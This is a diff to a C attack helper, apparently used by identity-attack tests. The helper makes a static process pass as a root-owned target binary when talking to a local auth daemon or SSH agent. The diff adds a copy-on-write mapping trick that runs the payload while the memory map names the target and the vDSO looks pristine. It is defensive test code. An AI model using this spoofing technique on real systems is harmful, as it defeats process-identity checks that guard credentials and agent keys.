@@ -13,7 +13,8 @@
  *     frame written, one answer frame read and printed as hex, "closed" at the end of the stream; localauthd's
  *     framing, or the SSH agent's with EXE_SWAP_SSH set).
  * Its memory map then has no file mapping (it is static), [vdso] (inode 0) holding pages it wrote, and anonymous
- * non-executable memory; with EXE_SWAP_MAP_TARGET set, also TARGET's first page mapped as code.
+ * non-executable memory; with EXE_SWAP_MAP_TARGET set, also TARGET's first page mapped as code. With EXE_SWAP_COW
+ * the payload runs instead from a private copy-on-write mapping of TARGET it wrote into, the vDSO left alone.
  * Built by IdentityAttackTests: cc -static -O2 -fno-stack-protector -fcf-protection=none -fno-jump-tables -fno-pic
  * -no-pie (the payload must hold no call through a table or a stack guard: it runs from a copy). x86-64 only. */
 #define _GNU_SOURCE
@@ -259,16 +260,29 @@ int main(int argc, char **argv) {
     }
     fclose(f);
     size_t size = (size_t)(__stop_swapcode - __start_swapcode);
-    if (!vdso || size > vdso_end - vdso) { fprintf(stderr, "no room in the vDSO\n"); return 1; }
-    if (mprotect((void *)vdso, vdso_end - vdso, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) {
-        perror("mprotect [vdso]");
-        return 1;
+    unsigned long where;
+    if (getenv("EXE_SWAP_COW")) {
+        /* EXE_SWAP_COW: the payload goes into a private, copy-on-write mapping of TARGET itself (root's file, which
+         * the process may read): its map then names TARGET, mapped, and the vDSO stays the kernel's. */
+        size_t span = (size + 4095) & ~(size_t)4095;
+        void *copy = mmap(NULL, span, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE, exe, 0);
+        if (copy == MAP_FAILED) { perror("mmap TARGET"); return 1; }
+        memcpy(copy, __start_swapcode, size);
+        mprotect(copy, span, PROT_READ | PROT_EXEC);
+        where = (unsigned long)copy;
+    } else {
+        if (!vdso || size > vdso_end - vdso) { fprintf(stderr, "no room in the vDSO\n"); return 1; }
+        if (mprotect((void *)vdso, vdso_end - vdso, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) {
+            perror("mprotect [vdso]");
+            return 1;
+        }
+        memcpy((void *)vdso, __start_swapcode, size);
+        /* Back to r-x, as a pristine vDSO: the pages stay private copies (Anonymous in smaps) with our bytes. */
+        mprotect((void *)vdso, vdso_end - vdso, PROT_READ | PROT_EXEC);
+        where = vdso;
     }
-    memcpy((void *)vdso, __start_swapcode, size);
-    /* Back to r-x, as a pristine vDSO: the pages stay private copies (Anonymous in smaps) with our bytes. */
-    mprotect((void *)vdso, vdso_end - vdso, PROT_READ | PROT_EXEC);
     fflush(NULL);
-    void (*entry)(struct context *) = (void (*)(struct context *))(vdso + ((char *)swap_payload - __start_swapcode));
+    void (*entry)(struct context *) = (void (*)(struct context *))(where + ((char *)swap_payload - __start_swapcode));
     entry(c);
     return 0; /* not reached */
 }
